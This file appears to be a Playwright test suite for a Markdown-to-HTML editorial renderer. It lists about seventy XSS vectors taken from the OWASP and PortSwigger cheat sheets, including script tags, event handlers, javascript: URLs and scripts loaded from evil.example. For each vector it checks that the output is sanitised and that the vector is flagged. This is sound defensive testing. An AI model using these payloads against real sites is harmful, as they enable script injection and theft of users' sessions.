import { expect, test } from 'playwright/test'
import { visit } from 'unist-util-visit'
import { markupHtmlRule } from '@/lib/editorial/markup-html'
import { article, findings } from '../editorial-rules'
import { renderHtml } from '../render-html'

/**
 * Vectors after OWASP's XSS Filter Evasion Cheat Sheet and PortSwigger's XSS cheat sheet. `false`: Markdown itself turns it
 * into harmless text, so nothing is removed and there is nothing to report.
 */
const VECTORS: readonly (readonly [vector: string, reported: boolean])[] = [
  ['<script>alert(1)</script>', true],
  ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', true],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', true],
  ['<script/src="https://evil.example/x.js"></script>', true],
  ['<<SCRIPT>alert(1);//<</SCRIPT>', true],
  ['<script>\n\nalert(1)\n\n</script>', true],
  ['<img src=x onerror=alert(1)>', true],
  ['<img src="x" onerror="alert(1)">', true],
  ['<IMG SRC="javascript:alert(1);">', true],
  ['<IMG SRC=JaVaScRiPt:alert(1)>', true],
  ['<IMG SRC="jav&#x09;ascript:alert(1);">', true],
  ['<IMG SRC="&#106;avascript:alert(1)">', true],
  ['<IMG """><SCRIPT>alert(1)</SCRIPT>">', true],
  ['<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="x">', true],
  ['<body onload=alert(1)>', true],
  ['<svg onload=alert(1)>', true],
  ['<svg/onload=alert(1)>', false],
  ['<svg><script>alert(1)</script></svg>', true],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>', true],
  ['<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>', true],
  ['<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', true],
  ['<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>', true],
  ['<math href="javascript:alert(1)">press</math>', true],
  ['<iframe src="javascript:alert(1)"></iframe>', true],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', true],
  ['<object data="javascript:alert(1)"></object>', true],
  ['<embed src="javascript:alert(1)">', true],
  ['<applet code="x"></applet>', true],
  ['<a href="javascript:alert(1)">press</a>', true],
  ['<a href=" javascript:alert(1)">press</a>', true],
  ['<a href="java\nscript:alert(1)">press</a>', true],
  ['<a href="vbscript:msgbox(1)">press</a>', true],
  ['<a href="data:text/html;base64,PHNjcmlwdD4=">press</a>', true],
  ['<a onmouseover="alert(1)">press</a>', true],
  ['<b onclick=alert(1)>press</b>', true],
  ['<details open ontoggle=alert(1)>x</details>', true],
  ['<video><source onerror="alert(1)"></video>', true],
  ['<audio src onloadstart=alert(1)></audio>', true],
  ['<input autofocus onfocus=alert(1)>', true],
  ['<select autofocus onfocus=alert(1)></select>', true],
  ['<textarea autofocus onfocus=alert(1)></textarea>', true],
  ['<form action="javascript:alert(1)"><input type=submit></form>', true],
  ['<button formaction="javascript:alert(1)">press</button>', true],
  ['<isindex action="javascript:alert(1)" type=image>', true],
  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', true],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', true],
  ['<base href="https://evil.example/">', true],
  ['<style>@import "https://evil.example/x.css";</style>', true],
  ['<div style="background:url(javascript:alert(1))">x</div>', true],
  ['<p style="position:fixed;inset:0">x</p>', true],
  ['<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', true],
  ['<marquee onstart=alert(1)>x</marquee>', true],
  ['<template><script>alert(1)</script></template>', true],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', true],
  ['<xmp><img src=x onerror=alert(1)></xmp>', true],
  ['<plaintext>', true],
  ['[press](javascript:alert(1))', true],
  ['[press](JaVaScRiPt:alert`1`)', true],
  ['[press](data:text/html,<script>alert(1)</script>)', true],
  ['[press][x]\n\n[x]: javascript:alert(1)', true],
  ['![x](javascript:alert(1))', true],
  ['<javascript:alert(1)>', true],
  ['<b>never closed', true],
  ['`<script>alert(1)</script>`', false],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', false],
  ['\\<script>alert(1)\\</script>', false],
  ['{alert(1)} <% alert(1) %> #{alert(1)}', false],
  ["import x from 'y'\n\nexport default () => {}", false],
]

const SAFE_ADDRESS = /^(?:https?:|mailto:|tel:|[/#]|[^:]*$)/

for (const [vector, reported] of VECTORS) {
  test(`${JSON.stringify(vector)} does no harm${reported ? ' and is reported' : ''}`, async () => {
    const rendered = await renderHtml(vector).catch((error: unknown) => {
      // Lost numbers stop the page: no harm either.
      if (error instanceof Error && error.name === 'LostNumbersError') return undefined
      throw error
    })
    const unsafe: string[] = []
    if (rendered) {
      visit(rendered.tree, 'element', ({ tagName, properties }) => {
        if (
          /^(?:script|style|iframe|object|embed|applet|svg|math|meta|link|base|form|template|noscript)$/.test(
            tagName,
          ) &&
          properties.as !== 'image'
        )
          unsafe.push(tagName)
        if (tagName === 'input' && properties.type !== 'checkbox') unsafe.push('input')
        for (const [name, value] of Object.entries(properties)) {
          if (/^(?:on|style$|srcdoc$|formaction$|action$|background$)/i.test(name))
            unsafe.push(`${tagName} ${name}`)
          if (/^(?:href|src|cite|xlinkhref)$/i.test(name) && !SAFE_ADDRESS.test(String(value)))
            unsafe.push(String(value))
        }
      })
    }
    expect(unsafe).toEqual([])
    const severities = findings(markupHtmlRule, article(vector)).map(({ severity }) => severity)
    expect(severities.length > 0).toBe(reported)
  })
}
